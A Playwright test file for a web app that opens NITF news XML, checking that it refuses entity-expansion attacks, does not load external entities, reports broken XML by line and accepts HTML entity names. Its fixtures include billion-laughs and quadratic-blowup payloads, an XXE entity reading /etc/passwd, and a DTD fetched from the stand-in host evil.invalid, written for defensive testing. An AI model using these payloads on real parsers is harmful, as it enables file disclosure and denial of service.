/** XML that was made to hurt is not opened, XML that is broken is named with its line, and either can be looked at as it is. */
import { expect, type Page, test } from "@playwright/test";

import { readBeside } from "./beside";
import { type CarriedFile, dropFiles, makeFile } from "./drop";
import { LATE, openFerry } from "./ferry";
import { watchHarm } from "./harmless";
import { dropSpace, head, names, readColumn, readLevels } from "./reader";

function nest(levels: number): string {
  const entities = Array.from(
    { length: levels },
    (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`,
  );
  return `<!DOCTYPE nitf [<!ENTITY e0 "laugh">${entities.join("")}]><nitf><body><p>&e${levels};</p></body></nitf>`;
}

const TRICKS: readonly CarriedFile[] = [
  makeFile("laughs.xml", nest(9)),
  makeFile(
    "growing.xml",
    `<!DOCTYPE nitf [<!ENTITY a "${"x".repeat(5000)}">]><nitf><body><p>${"&a;".repeat(5000)}</p></body></nitf>`,
  ),
];

const OUTSIDE: readonly CarriedFile[] = [
  makeFile(
    "secret.xml",
    `<!DOCTYPE nitf [<!ENTITY s SYSTEM "file:///etc/passwd">]><nitf><body><body.content><p>A secret: &s;</p><p>The end.</p></body.content></body></nitf>`,
  ),
  makeFile(
    "out.xml",
    `<!DOCTYPE nitf SYSTEM "https://evil.invalid/n.dtd" [<!ENTITY % p SYSTEM "https://evil.invalid/p.ent"> %p; <!ENTITY s SYSTEM "https://evil.invalid/s">]><nitf><body><body.content><p>Out: &s;</p></body.content></body></nitf>`,
  ),
];

const BROKEN = makeFile(
  "broken.xml",
  `<?xml version="1.0"?>\n<nitf><body><body.content>\n<p>The ferry left at noon.</p>\n<p>It was <b>full.</p>`,
);

test("entity tricks are not opened, and the texts stay", async ({ page, baseURL }) => {
  await openFerry(page);
  const expectHarmless = await watchHarm(page, String(baseURL));
  const before = await readLevels(page);

  for (const file of [...TRICKS, ...pick("xml", /^0[12]/u), ...pick("zip", /^12/u)]) {
    await dropFiles(page, [file], "left");
    await expectProblem(page, `“${file.name}” uses entity tricks`);
  }

  expect(await readLevels(page)).toEqual(before);
  await expectHarmless();
});

test("parts outside of a file are not loaded, and that is said", async ({ page, baseURL }) => {
  await openFerry(page);
  const expectHarmless = await watchHarm(page, String(baseURL));

  for (const file of [...OUTSIDE, ...pick("xml", /^0[34]/u)]) {
    await dropFiles(page, [file], "left");
    await expect(names(page)).toHaveText([file.name, LATE.name]);
    await expect(head(page, "Left")).toContainText("External parts of this file were not loaded.");
    expect(await readColumn(page, "Left")).not.toContain("root:");
  }

  await expectHarmless();
});

test("broken XML is named with its line, and shown as it is at a press", async ({ page }) => {
  await openFerry(page);
  const before = await readLevels(page);

  for (const file of [BROKEN, ...pick("xml", /^(?:05|06|10|14)/u)]) {
    await dropFiles(page, [file], "left");
    const told = page.getByRole("alert");
    await expect(told).toContainText(`“${file.name}” `);
    await expect(told).toContainText(/breaks in line \d|nests its elements deeper/u);
    await told.getByRole("button", { name: "Show as plain text" }).click();
    await expect(names(page)).toHaveText([file.name, LATE.name]);
    await expect(told).toHaveCount(0);
    await expect
      .poll(() => readColumn(page, "Left").then(sortLetters))
      .toBe(sortLetters(dropSpace(new TextDecoder().decode(file.bytes))));
    await page.getByRole("button", { name: "Undo" }).click();
    await expect.poll(() => readLevels(page)).toEqual(before);
  }
});

test("by keyboard, too: the focus is on the page when the message has gone", async ({ page }) => {
  await openFerry(page);
  await dropFiles(page, [BROKEN], "right");
  const way = page.getByRole("button", { name: "Show as plain text" });
  await way.focus();
  await page.keyboard.press("Enter");

  await expect(names(page).nth(1)).toHaveText(BROKEN.name);
  await expect(way).toHaveCount(0);
  await expect
    .poll(() => page.evaluate(() => document.activeElement?.tagName ?? ""))
    .not.toBe("BODY");
});

test("what browsers forgive is read: names of HTML, space before the first line", async ({
  page,
}) => {
  const body =
    "<nitf><body><body.content><p>Caf&eacute; &mdash; full.</p></body.content></body></nitf>";
  await openFerry(page);
  for (const file of [
    makeFile("names.xml", body),
    makeFile("late.xml", `\uFEFF\n <?xml version="1.0"?>${body}`),
  ]) {
    await dropFiles(page, [file], "left");
    await expect(names(page)).toHaveText([file.name, LATE.name]);
    expect(await readColumn(page, "Left")).toBe("Café—full.");
  }
});

function pick(folder: "xml" | "zip", name: RegExp): readonly CarriedFile[] {
  return readBeside(`formats/bad/${folder}`).filter((file) => name.test(file.name));
}

function sortLetters(text: string): string {
  return [...text].toSorted().join("");
}

async function expectProblem(page: Page, sentence: string): Promise<void> {
  const told = page.getByRole("alert");
  await expect(told).toContainText(sentence);
  await told.getByRole("button", { name: "Dismiss" }).click();
  await expect(told).toHaveCount(0);
}
